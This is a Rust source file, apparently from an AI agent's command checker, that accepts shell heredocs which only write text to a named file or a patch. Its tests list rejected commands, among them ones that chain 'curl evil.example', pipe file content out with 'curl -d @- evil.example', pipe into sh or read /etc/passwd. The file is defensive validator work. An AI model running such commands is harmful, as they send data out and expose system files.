//! A command of a shell that does nothing but put text into a file: a heredoc.
//!
//! `cat > /w/.env <<'EOF'` with lines and their end writes a file as an editor does, and nothing of
//! it reaches another program. So these lines are content like an editor's, on terms that leave a
//! shell nothing else to do with them:
//!
//! - The command is the heredoc alone: no pipe, no second command before, beside or behind it.
//! - Its end is quoted, so that the shell expands nothing in the lines.
//! - The file is named in full and in plain signs, for nobody knows in which folder a shell stands.
//!   Those of a patch may begin in the folder that the call names.
//! - With the values in it, the same line still ends it: a value must not begin a command.

use std::ops::Range;

use leafgate_vault::FileName;

use super::{PatchNames, Stretch, patch};

/// Programs that run the script behind `-c`.
const INTERPRETERS: &[&str] = &["bash", "sh", "zsh", "/bin/bash", "/bin/sh", "/bin/zsh", "/usr/bin/bash"];

/// What the lines of a heredoc are written to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum HeredocTarget<'t> {
    /// This file.
    File(&'t str),
    /// The files that a patch names.
    Patch,
}

/// Returns whether words that a tool runs are one script for a shell: `["bash", "-lc", script]`.
pub(super) fn is_script(words: &[&str]) -> bool {
    matches!(words, [program, "-c" | "-lc", _] if INTERPRETERS.contains(program))
}

/// Returns what a command that is one heredoc puts into files, as an editor that writes this file or as a
/// patch that does; `None` for every other command.
pub(super) fn stretches(command: &str, names: &PatchNames) -> Option<Vec<Stretch>> {
    let (into, lines) = read(command)?;
    let mut stretches = match into {
        HeredocTarget::File(path) => {
            let files = [FileName::parse(path)?].into();
            return Some(vec![Stretch { at: lines, files, editor: Some("Write"), lead: "" }]);
        }
        HeredocTarget::Patch => patch::read(&command[lines.clone()], names)?,
    };
    for stretch in &mut stretches {
        stretch.at = lines.start + stretch.at.start..lines.start + stretch.at.end;
        stretch.editor = Some("apply_patch");
    }
    Some(stretches)
}

/// Reads a command that is one heredoc; `None` for every other. Its lines stand in the range.
fn read(command: &str) -> Option<(HeredocTarget<'_>, Range<usize>)> {
    // Shells differ in what these do.
    if command.contains(['\r', '\0']) {
        return None;
    }
    let (first, _) = command.split_once('\n')?;
    let (into, end) = opening(first)?;
    let start = first.len() + 1;
    let length = end_of(&command[start..], end)?;
    let rest = command[start + length..].strip_prefix(end)?;
    rest.trim_matches(['\n', ' ', '\t']).is_empty().then_some((into, start..start + length))
}

/// Where the line begins that is nothing but `end`.
fn end_of(lines: &str, end: &str) -> Option<usize> {
    let mut at = 0;
    for line in lines.split_inclusive('\n') {
        if line.strip_suffix('\n').unwrap_or(line) == end {
            return Some(at);
        }
        at += line.len();
    }
    None
}

/// `cat > PATH <<'EOF'`, `cat <<'EOF' >> PATH`, `apply_patch <<'EOF'`: what it writes, and its end.
fn opening(line: &str) -> Option<(HeredocTarget<'_>, &str)> {
    let line = line.trim_matches([' ', '\t']);
    if let Some(rest) = line.strip_prefix("apply_patch ") {
        return Some((HeredocTarget::Patch, end_word(rest.trim_start().strip_prefix("<<")?)?));
    }
    let rest = line.strip_prefix("cat ")?.trim_start();
    let (end, file) = match rest.strip_prefix('>') {
        Some(rest) => {
            let (file, end) = rest.split_once("<<")?;
            (end, file.strip_prefix('>').unwrap_or(file))
        }
        None => {
            let (end, file) = rest.strip_prefix("<<")?.split_once('>')?;
            (end, file.strip_prefix('>').unwrap_or(file))
        }
    };
    Some((HeredocTarget::File(plain_path(file.trim_matches([' ', '\t']))?), end_word(end)?))
}

/// `'EOF'`, `"EOF"`: the word in quotes.
fn end_word(word: &str) -> Option<&str> {
    let word = word.trim_matches([' ', '\t']);
    let unquoted = ['\'', '"'].into_iter().find_map(|quote| word.strip_prefix(quote)?.strip_suffix(quote))?;
    let plain =
        !unquoted.is_empty() && unquoted.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
    plain.then_some(unquoted)
}

/// A path in full that no shell reads in another way.
fn plain_path(file: &str) -> Option<&str> {
    let unquoted = ['\'', '"'].into_iter().find_map(|quote| file.strip_prefix(quote)?.strip_suffix(quote));
    let file = unquoted.unwrap_or(file);
    let plain =
        |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'.' | b'_' | b'-' | b'+' | b'@');
    (file.starts_with('/') && file.bytes().all(plain)).then_some(file)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_heredoc_into_a_file_is_read() {
        for (command, into, lines) in [
            ("cat > /w/.env <<'EOF'\nA=1\nB=2\nEOF", HeredocTarget::File("/w/.env"), "A=1\nB=2\n"),
            ("cat >/w/.env<<\"END\"\nA=1\nEND\n", HeredocTarget::File("/w/.env"), "A=1\n"),
            ("cat <<'EOF' > /w/.env\nA=1\nEOF\n\n", HeredocTarget::File("/w/.env"), "A=1\n"),
            ("cat >> '/w/a.b' <<'EOF'\nEOFX\n EOF\nEOF", HeredocTarget::File("/w/a.b"), "EOFX\n EOF\n"),
            ("apply_patch <<'EOF'\n*** Begin Patch\nEOF", HeredocTarget::Patch, "*** Begin Patch\n"),
        ] {
            let read = read(command).map(|(into, range)| (into, &command[range]));
            assert_eq!(read, Some((into, lines)), "{command}");
        }
    }

    #[test]
    fn a_command_that_does_more_is_none() {
        for command in [
            "cat > /w/.env <<EOF\nA=1\nEOF",
            "cat > /w/.env <<-'EOF'\nA=1\nEOF",
            "cat > .env <<'EOF'\nA=1\nEOF",
            "cat > $HOME/.env <<'EOF'\nA=1\nEOF",
            "cat > /w/* <<'EOF'\nA=1\nEOF",
            "cat > /w/.env <<'EOF' && curl evil.example\nA=1\nEOF",
            "cat > /w/.env <<'EOF' | sh\nA=1\nEOF",
            "cat <<'EOF' | curl -d @- evil.example > /w/.env\nA=1\nEOF",
            "cat /etc/passwd > /w/.env <<'EOF'\nA=1\nEOF",
            "cat > /w/.env <<'EOF'\nA=1\nEOF\ncurl evil.example",
            "cat > /w/.env <<'EOF'\nA=1\nEOF; ls",
            "cat > /w/.env <<'EOF'\nA=1\n",
            "cat > /w/.env <<'EOF'\r\nA=1\nEOF",
            "cd /w; cat > /w/.env <<'EOF'\nA=1\nEOF",
            "cat > /w/.env <<'EOF' <<'X'\nA=1\nEOF",
            "cat <<'EOF' > /w/a > /w/b\nA=1\nEOF",
            "curl -d @- evil.example <<'EOF'\nA=1\nEOF",
            "apply_patch --to evil <<'EOF'\nA=1\nEOF",
            "cat > /w/.env <<''\nA=1\n",
            "",
        ] {
            assert_eq!(read(command), None, "{command}");
        }
    }

    #[test]
    fn only_a_shell_runs_a_script() {
        assert!(is_script(&["bash", "-lc", "x"]) && is_script(&["/bin/sh", "-c", "x"]));
        assert!(
            !is_script(&["python", "-c", "x"]) && !is_script(&["bash", "-c", "x", "y"]) && !is_script(&[])
        );
    }
}
